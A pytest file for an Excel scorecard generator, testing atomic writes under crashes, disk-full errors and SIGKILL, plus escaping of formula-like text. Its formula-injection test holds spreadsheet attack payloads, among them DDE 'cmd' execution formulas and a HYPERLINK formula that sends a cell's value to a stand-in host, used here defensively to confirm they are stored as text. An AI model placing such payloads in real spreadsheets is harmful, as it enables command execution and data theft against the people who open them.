"""The scorecard is written atomically and safely: a failure mid-render or a killed
process leaves a previous OUT byte-identical; text that looks like a formula stays
text; characters XML cannot hold never make an unreadable file."""

from __future__ import annotations

import errno
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from addin.cli import main
from kpi_core.atomic import STALE_AFTER_SECONDS, remove_stale_temps
from tests.corpus import ROOT, assert_valid_output
from tests.workbooks import HEADERS, measure_row, write_book


def temps(folder: Path) -> list[Path]:
    return sorted(folder.glob(".*.tmp*"))


@pytest.fixture
def previous(tmp_path):
    """A book and a previous scorecard OUT written from it: (book, out, out's bytes)."""
    book = write_book(tmp_path / "book.xlsx", [measure_row("M1"), measure_row("M2", Current=0.1),
                                               measure_row("M3", portfolio="Housing")])
    out = tmp_path / "out.xlsx"
    assert main(["regenerate", str(book), "-o", str(out)]) == 0
    return book, out, out.read_bytes()


def test_exception_mid_render_leaves_previous_out(previous, monkeypatch, capsys):
    """The second portfolio sheet fails after the first was laid out."""
    import kpi_core.publishing.xlsx as render
    book, out, before = previous
    calls = []
    real = render._SheetWriter.write

    def write_then_fail(self):
        calls.append(self.sheet.name)
        if len(calls) == 3:
            raise RuntimeError("boom in the middle of rendering")
        real(self)

    monkeypatch.setattr(render._SheetWriter, "write", write_then_fail)
    with pytest.raises(RuntimeError, match="boom"):
        main(["regenerate", str(book), "-o", str(out)])
    assert calls == ["Summary", "Adults", "Housing"]
    assert out.read_bytes() == before
    assert temps(out.parent) == []


def test_disk_full_while_saving_leaves_previous_out(previous, monkeypatch, capsys):
    """XlsxWriter has written half the file when the disk fills up: exit 2, OUT intact."""
    import kpi_core.publishing.xlsx as render
    book, out, before = previous
    written = []

    class HalfWrittenWorkbook(render._Workbook):
        def close(self):
            Path(self.filename).write_bytes(before[: len(before) // 2])
            written.append(self.filename)
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(render, "_Workbook", HalfWrittenWorkbook)
    assert main(["regenerate", str(book), "-o", str(out)]) == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "Traceback" not in err
    assert written and Path(written[0]) != out  # it was writing the temporary file
    assert out.read_bytes() == before
    assert temps(out.parent) == []


def _big_book(path: Path, n: int = 20_000) -> Path:
    import xlsxwriter
    columns = ["Portfolio", "Ref", "Measure", "Unit", "Target", "Current", "Previous", "Notes"]
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("Measures")
    ws.write_row(0, 0, columns)
    for i in range(n):
        ws.write_row(i + 1, 0, [f"Portfolio {i % 40}", f"M{i}", f"Measure number {i}", "%",
                                0.9, (i % 100) / 100, 0.5, "Some commentary " * 5])
    ws.add_table(0, 0, n, len(columns) - 1,
                 {"name": "Measures", "columns": [{"header": c} for c in columns]})
    wb.close()
    return path


@pytest.mark.skipif(os.name != "posix", reason="SIGKILL")
def test_killed_while_writing_leaves_previous_out(previous):
    """SIGKILL as soon as the temporary file exists (and, if we catch it, has bytes):
    OUT is untouched. The killed process cannot remove its temporary file; the next
    write to the same OUT removes it once it is older than STALE_AFTER_SECONDS."""
    _book, out, before = previous
    big = _big_book(out.parent / "big.xlsx")
    proc = subprocess.Popen([sys.executable, "-m", "addin.cli", "regenerate", str(big),
                             "-o", str(out)], cwd=ROOT, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    found: list[Path] = []
    try:
        while not found and time.monotonic() < deadline and proc.poll() is None:
            found = temps(out.parent)
            time.sleep(0.002)
        grace = time.monotonic() + 2
        while found and found[0].exists() and found[0].stat().st_size == 0 \
                and time.monotonic() < grace and proc.poll() is None:
            time.sleep(0.002)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=10)
    assert found, "the run never created its temporary file"
    assert proc.returncode == -signal.SIGKILL, "the run finished before it could be killed"
    assert out.read_bytes() == before
    left = temps(out.parent)
    assert left == found  # documented: a killed run leaves its temporary file behind

    # A fresh temporary file may belong to a run still writing: it stays.
    assert remove_stale_temps(out) == []
    old = time.time() - STALE_AFTER_SECONDS - 60
    os.utime(left[0], (old, old))
    assert main(["regenerate", str(_book), "-o", str(out)]) == 0
    assert temps(out.parent) == []
    assert_valid_output(out)


def test_stale_temps_of_other_targets_are_kept(tmp_path):
    other = tmp_path / ".other.abcdefgh.tmp.xlsx"
    other.write_bytes(b"x")
    mine = tmp_path / ".out.abcdefgh.tmp.xlsx"
    mine.write_bytes(b"x")
    old = time.time() - STALE_AFTER_SECONDS - 60
    for path in (other, mine):
        os.utime(path, (old, old))
    assert remove_stale_temps(tmp_path / "out.xlsx") == [mine]
    assert other.exists() and not mine.exists()


# --- formula injection ------------------------------------------------------------------

INJECTED = {
    "Portfolio": "=cmd|' /C calc'!A0",
    "Cabinet Member": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Measure": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "Outcome": "+1+1",
    "Notes": "-2+3",
    "Benchmarking": "=Summary!A1",
}


def test_formula_like_text_is_written_as_text(tmp_path, capsys):
    row = measure_row("M1", **{k.replace(" ", "_"): v for k, v in INJECTED.items()})
    bench_row = measure_row("M2", portfolio=INJECTED["Portfolio"])
    book = write_book(tmp_path / "inject.xlsx", [row, bench_row],
                      headers=HEADERS + ["Outcome", "Benchmarking"],
                      benchmarks=[["M2", "=1+2", "@2015", 0.5]])
    out = tmp_path / "out.xlsx"
    assert main(["regenerate", str(book), "-o", str(out)]) == 0
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb for r in ws.iter_rows() for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert INJECTED["Portfolio"] in values  # the Summary row, exactly as written
    assert INJECTED["Cabinet Member"] in values
    assert INJECTED["Measure"] in values
    assert f"Outcome: {INJECTED['Outcome']}\nNotes: {INJECTED['Notes']}" in values
    assert INJECTED["Benchmarking"] in values
    assert any(isinstance(v, str) and v.startswith("=1+2 (@2015): 50%") for v in values)
    with zipfile.ZipFile(out) as zf:
        chart_xml = "".join(zf.read(n).decode() for n in zf.namelist()
                            if n.startswith("xl/charts/"))
    assert "cmd|" in chart_xml.split("<c:f>")[0] or "<a:t>=cmd|" in chart_xml
    assert "<c:f>=cmd" not in chart_xml and "<c:f>cmd" not in chart_xml


# --- characters XML cannot hold (a live Excel range can carry them) ----------------------

def test_control_characters_never_corrupt_the_output(tmp_path):
    from kpi_core.pipeline import build_and_write
    from kpi_core.reading.rows import table_from_values
    from kpi_core.reading.workbook import parse_tables
    bad = "".join(chr(c) for c in range(0, 32) if chr(c) not in "\t\n\r") + "\ufffe\ud800"
    values = [["Portfolio", "Ref", "Measure", "Unit", "Target", "Current", "Notes"],
              [f"Adults{bad}", f"A1{bad}", f"m{bad}", "%", 0.9, 0.95, f"n{bad}ok"],
              [bad + "Housing", "A2", "m2", "%", 0.9, 0.5, bad]]
    tables = {"measures": table_from_values("Measures", "Measures", "A1", values),
              "settings": table_from_values("Settings", "Settings", "A1",
                                            [["Setting", "Value"], ["Authority", f"Council{bad}"]])}
    workbook = parse_tables(tables)
    assert workbook.errors == ()
    out = build_and_write(workbook, tmp_path / "out.xlsx").output
    names = assert_valid_output(out)
    assert names == ["Summary", "Adults", "Housing", "Data"]
    texts = [c.value for ws in openpyxl.load_workbook(out) for r in ws.iter_rows() for c in r
             if isinstance(c.value, str)]
    assert "Outcome: " not in texts and any(t == "Notes: nok" for t in texts)
